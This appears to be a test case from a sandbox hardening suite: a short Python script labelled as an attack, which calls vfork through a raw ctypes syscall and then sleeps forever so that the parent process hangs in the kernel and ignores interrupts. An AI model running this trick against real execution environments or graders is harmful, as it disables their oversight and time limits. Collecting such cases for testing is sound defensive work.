# attack: a vfork whose child sleeps keeps its parent in the kernel, deaf to interrupts
# earns: any
# outcome: stopped
import ctypes

ctypes.CDLL(None).syscall(58)
import time

while True:
    time.sleep(1000)
